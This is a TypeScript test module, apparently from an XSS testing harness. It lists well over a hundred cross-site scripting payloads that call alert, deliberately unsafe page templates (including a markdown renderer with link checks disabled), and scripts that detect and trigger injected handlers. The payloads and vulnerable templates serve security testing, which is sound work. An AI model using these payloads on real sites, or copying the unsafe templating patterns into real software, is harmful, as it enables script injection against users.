import { decodeHTML } from 'entities';
import MarkdownIt from 'markdown-it';

/**
 * Texts that run `alert` where a page takes a text for markup, or markup that it was given for harmless. Every one of
 * them does so today in at least one of `naivePages`; those that have died out with older browsers are not here.
 */
export const XSS_PAYLOADS = String.raw`
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script/x>
<script >alert(1)</script >
<<script>alert(1)//<</script>
<script src="data:text/javascript,alert(1)"></script>
<script src=data:,alert(1)></script>
<script type=module>alert(1)</script>
<script type="text/javascript">/**/alert(1)/**/</script>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href="data:,alert(1)"></script></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<math><script>alert(1)</script></math>
"><script>alert(1)</script>
'><script>alert(1)</script>
</p><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</script ><script>alert(1)</script>
</SCRIPT><script>alert(1)</script>
--><script>alert(1)</script>
--!><script>alert(1)</script>
]]><script>alert(1)</script>
</noscript><script>alert(1)</script>
</iframe><script>alert(1)</script>
</template><script>alert(1)</script>
</select><script>alert(1)</script>
<!--<script>--><script>alert(1)</script>
<!-- --!><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<IMG SRC=x OnErRoR=alert(1)>
<img src=x onerror=alert(1)//
<img src onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=x onerror=alert&lpar;1&rpar;>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;lert(1)>
<img src=x onerror="&#0000097lert(1)">
<img src=x onerror=\u0061lert(1)>
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=self[/al/.source+/ert/.source](1)>
<img src=x onerror=Function('alert(1)')()>
<img src=x onerror=setTimeout('alert(1)')>
<img src="data:image/png;base64,x" onerror=alert(1)>
<img src='/images/tents.png' onload=alert(1)>
<img srcset=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"/><img src=x onerror=alert(1)>
<p title="</p><img src=x onerror=alert(1)>">
<a title="--><img src=x onerror=alert(1)>">x</a>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload="alert(1)"/>
<svg id=x onload=alert(id)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x dur=1s>
<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text x=20 y=20>x</text></a>
<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<math><mi><img src=x onerror=alert(1)></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><a href=javascript:alert(1)>x</a></math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe src="java&#10;script:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<iframe/onload=alert(1)>
<object data=x onerror=alert(1)></object>
<video src=x onerror=alert(1)></video>
<video><source src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<link rel=stylesheet href=x onerror=alert(1)>
<link rel=stylesheet href="data:text/css," onload=alert(1)>
<style onload=alert(1)></style>
<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=alert(1)>x</p>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<button onclick=alert(1)>x</button>
<p onclick=alert(1)>x</p>
<p onmouseover=alert(1)>x</p>
<p onpointerenter=alert(1)>x</p>
<p tabindex=0 onfocus=alert(1)>x</p>
<p contenteditable onfocus=alert(1)>x</p>
<custom-element onclick=alert(1)>x</custom-element>
<form><button formaction=javascript:alert(1)>x</button></form>
<form action=javascript:alert(1)><input type=submit></form>
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&Tab;ascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript:%61lert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
javascript:alert(1)
 javascript:alert(1)
JAVASCRIPT:alert(1)
javascript://example.com/%0aalert(1)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
" onmouseover="alert(1)
" onclick=alert(1) x="
" autofocus onfocus=alert(1) tabindex=0 "
' onmouseover='alert(1)
' onclick=alert(1) x='
x onmouseover=alert(1)
x onclick=alert(1)
";alert(1);//
";alert(1);"
';alert(1);//
'-alert(1)-'
"-alert(1)-"
\";alert(1);//
\'-alert(1)//
${'$'}{alert(1)}
"}</script><script>alert(1)</script>
{"a":"</script><script>alert(1)</script>"}
&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
&#60;img src=x onerror=alert(1)&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&quot;&gt;&lt;img src=x onerror=alert(1)&gt;
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<java	script:alert(1)>)
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x][y] [y]: javascript:alert(1)
<javascript:alert(1)>
[<img src=x onerror=alert(1)>](https://example.com/)
**<img src=x onerror=alert(1)>**
`
  .trim()
  .split('\n');

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
/** A text as JSON that can stand in a script. */
const inScript = (text: string) => JSON.stringify(text).replaceAll('<', '\\u003c');

const trusting = new MarkdownIt({ html: true });
trusting.validateLink = () => true;
trusting.normalizeLink = (it) => it;

/** Pages that trust a text, each in a way that pages have. */
export function naivePages(text: string): string[] {
  return [
    `<p>${text}</p>`,
    `<p>${decodeHTML(text)}</p>`,
    `<p>${decodeHTML(decodeHTML(text))}</p>`,
    `<p title="${text}">x</p>`,
    `<p title='${text}'>x</p>`,
    `<p title=${text}>x</p>`,
    `<a href="${escaped(text)}">x</a>`,
    `<title>${text}</title>`,
    `<textarea>${text}</textarea>`,
    `<style>/* ${text} */</style>`,
    `<!-- ${text} -->`,
    `<template>${text}</template>`,
    `<select>${text}</select>`,
    `<noscript>${text}</noscript>`,
    `<script>const x = "${text}";</script>`,
    `<script>const x = '${text}';</script>`,
    `<script>const x = "${text.replaceAll('"', '\\"')}";</script>`,
    `<script>const x = '${text.replaceAll("'", "\\'")}';</script>`,
    `<script>const x = \`${text}\`;</script>`,
    `<script type="application/ld+json">{"x":"${text}"}</script>`,
    `<p id=x></p><script>x.innerHTML = ${inScript(text)};</script>`,
    `<div id=x></div><script>x.innerHTML = ${inScript(text)}; x.innerHTML = x.innerHTML;</script>`,
    trusting.render(text),
    trusting.render(text.replace(' [y]:', '\n\n[y]:')),
  ];
}

/** Has `alert` tell on the console in which frame it ran: in all frames, and before anything else runs. */
export const WATCH = `self.alert = () => {
  let frame = self;
  while (frame !== top && !frame.name) frame = frame.parent;
  console.info('RAN ' + frame.name);
}`;

/**
 * Sets off what a page could do when people use it: every handler that is written into its markup, and every address of
 * a link or a form that is script. An expression to evaluate in the page.
 */
export const POKE = `(() => {
  const isScript = (address) => /^(javascript|data|vbscript):/i.test(address?.animVal ?? address);
  const roots = [document, ...[...document.querySelectorAll('*')].flatMap((it) => it.shadowRoot ?? [])];
  for (const it of roots.flatMap((root) => [...root.querySelectorAll('*')])) {
    for (const { name } of it.attributes) {
      if (name.startsWith('on')) it.dispatchEvent(new Event(name.slice('on'.length)));
    }
    if (it.matches('a, area') && isScript(it.href)) it.dispatchEvent(new MouseEvent('click', { cancelable: true }));
    if (it.matches('form') && isScript(it.action)) it.requestSubmit();
    if (it.matches('button, input') && isScript(it.formAction)) it.click();
  }
})()`;
